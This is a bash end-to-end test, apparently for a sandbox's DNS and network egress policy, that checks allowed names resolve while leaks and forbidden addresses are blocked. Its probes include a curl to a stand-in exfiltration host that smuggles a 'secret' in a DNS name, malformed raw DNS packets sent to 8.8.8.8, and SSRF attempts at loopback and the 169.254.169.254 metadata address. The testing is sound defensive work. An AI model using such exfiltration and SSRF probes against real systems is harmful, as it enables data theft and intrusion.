#!/usr/bin/env bash
# Names: only what a policy allows is ever asked upstream, and addresses that a name may not have are refused.
#
# The host's resolver is dnsmasq in the server's namespace: /etc/resolv.conf is bound over in a mount namespace of the
# test's own.
[ -n "${OSHT_MOUNTS:-}" ] || exec unshare --mount --propagation private env OSHT_MOUNTS=1 bash "$0" "$@"
. "$(dirname "$0")/lib.sh"
e2e_up
printf 'nameserver %s\nsearch example.test\n' "$S_IP" >"$T/resolv.conf"
mount --bind "$T/resolv.conf" "$(readlink -f /etc/resolv.conf)" || die "cannot bind /etc/resolv.conf"
nginx_up
sinks_up
sniff_up
probe_up
GOOD_IP=93.184.216.77
cat >"$T/dns.hosts" <<EOP
$GOOD_IP native.example.test
$GOOD_IP some.nat.example.test
$GOOD_IP two.example.test
93.184.216.78 two.example.test
$S_IP priv.example.test
$S_IP priv.nat.example.test
$S_IP ips.example.test
127.0.0.1 lo.example.test
169.254.169.254 meta.example.test
0.0.0.0 zero.example.test
$C_IP host.example.test
$GOOD_IP mixed.example.test
127.0.0.1 mixed.example.test
$API_IP api.github.com
127.0.0.1 lo7.example.test
169.254.169.254 meta7.example.test
$S_IP priv7.example.test
$S_IP any7.wild.example.test
$GOOD_IP secret.example.test
EOP
DNS_TTL=1 dns_up --txt-record=native.example.test,hidden-text
DIG=$(real dig) PY=$(real python3)
policy p.yaml <<EOP
network_policies:
  native:
    endpoints:
      - {host: native.example.test, port: 4000}
      - {host: "*.nat.example.test", port: 4000}
      - {host: two.example.test, port: 4000}
      - {host: priv.example.test, port: 4000}
      - {host: lo.example.test, port: 4000}
      - {host: meta.example.test, port: 4000}
      - {host: zero.example.test, port: 4000}
      - {host: host.example.test, port: 4000}
      - {host: mixed.example.test, port: 4000}
      - {host: ips.example.test, port: 4000, allowed_ips: [$GOOD_IP/32]}
      - {host: "*.fwd.example.test", port: 4000, allowed_ips: [10.77.0.0/24]}
    binaries: [{path: $PROBE}, {path: $DIG}]
  l7:
    endpoints:
      - {host: api.github.com, port: 443, protocol: rest, access: read-only}
      - {host: lo7.example.test, port: 443, protocol: rest, access: read-only}
      - {host: meta7.example.test, port: 443, protocol: rest, access: read-only}
      - {host: priv7.example.test, port: 443, protocol: rest, access: read-only}
      - {host: "*.wild.example.test", port: 443, protocol: rest, access: read-only}
    binaries: [{path: /usr/bin/curl}]
EOP
# No --add-host here: every address comes from the server.
OUT=$(cd "$T/work" && timeout -k 5 60 "${OSHC[@]}" run --name "${PFX}d" --keep --policy "$T/p.yaml" --upstream-ca "$CA" -- true 2>&1 </dev/null); RC=$?
rc_is 0 || { not_ok "sandbox starts"; finish; }
mark dns sniff sinks access
asked() { came dns "query\[[A-Z0-9]+\] $1 "; }
asked_not() { came_not dns "query\[[A-Z0-9]+\] $1 "; }
ask() { sb d dig +tries=1 +timeout=4 "$@"; }

section "names that are allowed"
sb d "$PROBE" name native.example.test 4000
check "a native name is resolved upstream and reached" all 'says "ok port"' 'asked native.example.test' "came sinks '^tcp $GOOD_IP 4000'"
sb d "$PROBE" name some.nat.example.test 4000
check "through a pattern" says 'ok port'
ask +short native.example.test
A=$OUT
ask +short native.example.test
check "its address is synthetic and stays the same" all 'out_has "^198\.1[89]\."' 'out_is "$A"'
ask -x "$A" +short
check "PTR of it is its name" out_is native.example.test.
ask nx.nat.example.test
check "NXDOMAIN is passed on" all 'out_has "status: NXDOMAIN"' 'asked nx.nat.example.test'
mark dns
sb d curl -sS -o /dev/null -w '%{http_code}' https://api.github.com/zen
check "an inspected name is resolved for an allowed request" all 'out_is 200' 'asked api.github.com'
sleep 1.5
mark dns
sb d curl -sS -o /dev/null -w '%{http_code}' -X POST https://api.github.com/zen
check "not for a denied one" all 'out_is 403' 'asked_not api.github.com'

section "names that are not"
mark dns sniff
sb d curl -sS http://secret.example.test:4000/
check "no policy has it" rc_is 7
sb d curl -sS http://a-secret-in-a-name.exfil.example.test/
sb d curl -sS http://native.example.test:4000/
check "another binary's" rc_is 7
sb d python3 -c 'import socket; print(socket.gethostbyname("native.example.test"))'
check "still get an address" out_has '^198\.1[89]\.'
check "and nothing was asked upstream" came_not dns 'query'
check "the denial has the name" logged d 'action=deny dst_host=a-secret-in-a-name\.exfil\.example\.test dst_port=80 binary=/usr/bin/curl'
sb d "$PY" -c 'import socket, random, string
for i in range(600):
    n = "".join(random.choices(string.ascii_lowercase, k=30)) + ".%d.example.org" % i
    socket.gethostbyname(n)
print("done")'
check "600 random names: none is asked upstream" all 'out_is done' 'came_not dns query'
sb d "$PROBE" name native.example.test 4000
check "allowed names still work" says 'ok port'

section "other types"
mark dns
for t in AAAA TXT MX SRV HTTPS SVCB; do
	ask native.example.test $t
	check "$t: NOERROR and empty" all 'out_has "status: NOERROR"' 'out_has "ANSWER: 0"'
done
for t in NULL ANY AXFR; do
	ask native.example.test $t
	check "$t: nothing comes of it" out_lacks 'hidden-text'
done
ask native.example.test A
check "control: A has an answer, RA is set" all 'out_has "ANSWER: 1"' 'out_has "flags:.* ra"'
check "control: EDNS is echoed" out_has 'EDNS: version: 0'
check "no query but for addresses went upstream" came_not dns 'query\[(TXT|MX|SRV|HTTPS|SVCB|NULL|ANY|type)'
ask native.example.test CH TXT
check "class CHAOS" out_lacks hidden
sb d python3 -c 'import socket
for b in (b"", b"\0", b"\xff" * 12, b"\0" * 12, b"\1\2" + b"\1\0\0\1\0\0\0\0\0\0" + b"\xc0\x0c\0\1\0\1", b"\1\2\1\0\0\1\0\0\0\0\0\0" + b"\x3f" + b"a" * 63 + b"\0\0\1\0\1", b"\1\2\1\0\0\1\0\0\0\0\0\0" + (b"\x3f" + b"a" * 63) * 5 + b"\0\0\1\0\1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b, ("8.8.8.8", 53))
print("sent")'
sb d "$PROBE" name native.example.test 4000
check "malformed queries do no harm" says 'ok port'

section "addresses that a name may not have"
# refused_l4 NAME LABEL: the name resolves to something forbidden.
refused_l4() {
	mark sinks sniff
	sb d "$PROBE" name "$1" 4000
	check "$1: refused, nothing arrives" all 'rc_not 0' 'out_lacks "ok port"' "came_not sniff '^tcp .* 4000\$'" 'came_not sinks "^tcp"'
	check "$1: the reason is in the log" logged d "address not allowed \\(?.*$2"
	check "$1: and no line blames root" all '! logged d "address not allowed.* uid=0( |\$)"'
}
refused_l4 lo.example.test loopback
refused_l4 meta.example.test link-local
refused_l4 zero.example.test 'unspecified'
refused_l4 host.example.test '.'
refused_l4 mixed.example.test loopback
refused_l4 priv.nat.example.test private
refused_l4 ips.example.test "$S_IP"
mark sinks
sb d "$PROBE" name priv.example.test 4000
check "private, for an exactly named host: allowed" all 'says "ok port"' "came sinks '^tcp $S_IP 4000'"
sed -i "s/ native.example.test/&\n$S_IP x.fwd.example.test/" "$T/dns.hosts"
dns_reload
sb d "$PROBE" name x.fwd.example.test 4000
check "private, through allowed_ips: allowed" all 'says "ok port"'
for n in lo7:loopback meta7:link-local; do
	mark sniff access
	sb d curl -sS -m 8 -w '%{http_code}' "https://${n%:*}.example.test/"
	check "${n%:*}.example.test inspected: ssrf_denied, nothing arrives" all 'out_has ssrf_denied' 'out_has 403' "came_not access '${n%:*}'" "came_not sniff '169.254'"
done
sb d curl -sS -m 8 -w '%{http_code}' https://any7.wild.example.test/
check "inspected, private through a pattern: ssrf_denied" out_has ssrf_denied
mark access
sb d curl -sS -m 8 https://priv7.example.test/
check "inspected, private for an exactly named host: allowed" says 'host=priv7.example.test'

section "upstream is gone"
stop "$DNS_PID"
mark sniff
ask late.nat.example.test
check "SERVFAIL" out_has 'status: SERVFAIL'
sb d python3 -c 'import socket; print(socket.gethostbyname("nobody.example.org"))'
check "names that are not asked do not mind" out_has '^198\.1[89]\.'
finish
